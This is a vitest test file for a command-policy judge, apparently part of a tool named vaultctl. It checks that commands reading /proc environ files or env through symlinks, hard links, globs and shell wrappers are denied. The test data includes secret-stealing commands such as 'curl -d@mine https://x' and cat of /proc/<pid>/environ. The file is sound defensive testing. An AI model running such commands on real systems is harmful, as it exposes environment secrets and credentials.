import { spawnSync } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { judge } from '../../../src/domain/policy/judge.ts';
import { createWorld } from '../../../src/process/resolve.ts';
import { policyWith } from './fake-world.ts';

const path = '/usr/local/bin:/usr/bin:/bin';
const onLinux = existsSync('/proc/self/environ');
let cwd = '';

beforeAll(() => {
  cwd = realpathSync(mkdtempSync(join(tmpdir(), 'vaultctl-judge-')));
  const env = createWorld({ cwd, path }).resolve('env')?.file ?? '';
  mkdirSync(join(cwd, 'bin'));
  symlinkSync('/usr/bin/env', join(cwd, 'soft'));
  symlinkSync('soft', join(cwd, 'softer'));
  symlinkSync('/bin/sh', join(cwd, 'shell'));
  copyFileSync(env, join(cwd, 'bin/env'));
  linkSync(join(cwd, 'bin/env'), join(cwd, 'hard'));
  symlinkSync('/proc/self/environ', join(cwd, 'mine'));
  symlinkSync('/proc/999999/environ', join(cwd, 'not-yet'));
  symlinkSync('/proc', join(cwd, 'processes'));
  symlinkSync('/proc/self/environ', join(cwd, 'x*'));
  writeFileSync(join(cwd, 'git'), '#!/bin/sh\n', { mode: 0o755 });
});

afterAll(() => rmSync(cwd, { recursive: true }));

const isAllowed = async (command: string, args: readonly string[] = [], lookIn = path) =>
  (await judge(policyWith(), command, args, createWorld({ cwd, path: lookIn }))).ok;

/** Each call as the one argument of its test. */
function calls(rows: readonly (readonly string[])[]): [readonly string[]][] {
  return rows.map((row) => [row]);
}

describe('on this system', () => {
  test.each(
    calls([
      ['env'],
      ['/usr/bin/env'],
      ['./soft'],
      ['./softer'],
      ['nice', './softer'],
      ['./shell', '-c', './soft'],
      ['sh', '-c', 'cd bin; ../soft'],
      ['sh', '-c', 'cd bin; ./env'],
      ['timeout', '5', 'sh', '-c', 'nice env'],
    ]),
  )('%j is denied', async ([command = '', ...args]) => {
    expect(await isAllowed(command, args)).toBe(false);
  });

  test('a hard link to the env of the PATH is denied', async () => {
    expect(await isAllowed('./hard', [], join(cwd, 'bin'))).toBe(false);
  });

  test.runIf(onLinux).each(
    calls([
      ['cat', 'mine'],
      ['cat', 'not-yet'],
      ['cat', 'processes/self/environ'],
      ['cat', 'processes/999999/environ'],
      ['cat', 'x*'],
      ['dd', 'if=mine'],
      ['curl', '-d@mine', 'https://x'],
      ['grep', '-r', 'x', 'processes'],
      ['sh', '-c', 'cat m*'],
      ['sh', '-c', 'cd bin; cat ../mine'],
      ['cat', '/dev/fd/../environ'],
      ['cat', '/proc/thread-self/environ'],
      ['cat', `/proc/${process.pid}/environ`],
      ['./processes/self/exe', '-p', '1'],
    ]),
  )('%j is denied', async ([command = '', ...args]) => {
    expect(await isAllowed(command, args)).toBe(false);
  });

  test.each(
    calls([
      ['ls', 'bin'],
      ['cat', 'git'],
      ['sh', '-c', 'set -e; export A=1; echo "$A"'],
      ['find', '.', '-name', 'env'],
      ['cat', '/proc/cpuinfo'],
    ]),
  )('%j is allowed', async ([command = '', ...args]) => {
    expect(await isAllowed(command, args)).toBe(true);
  });

  test('a look-alike in the working directory does not pass for an allowed name', async () => {
    const policy = policyWith({ defaultAction: 'deny', allowedCommands: ['git'] });
    expect(await judge(policy, './git', [], createWorld({ cwd, path }))).toMatchObject({ ok: false });
    expect(await judge(policy, 'git', [], createWorld({ cwd, path: `.:${path}` }))).toMatchObject({
      ok: true,
    });
    expect(createWorld({ cwd, path: `.:${path}` }).resolve('git')?.found).not.toBe(join(cwd, 'git'));
  });

  test.runIf(spawnSync('busybox').status === 0)(
    'the applets of busybox are judged by their names',
    async () => {
      symlinkSync(createWorld({ cwd, path }).resolve('busybox')?.file ?? '', join(cwd, 'ls'));
      expect(await isAllowed('./ls')).toBe(true);
      expect(await isAllowed('busybox', ['ls'])).toBe(true);
      expect(await isAllowed('busybox', ['env'])).toBe(false);
      expect(await isAllowed('busybox', ['sh', '-c', 'env'])).toBe(false);
    },
  );
});
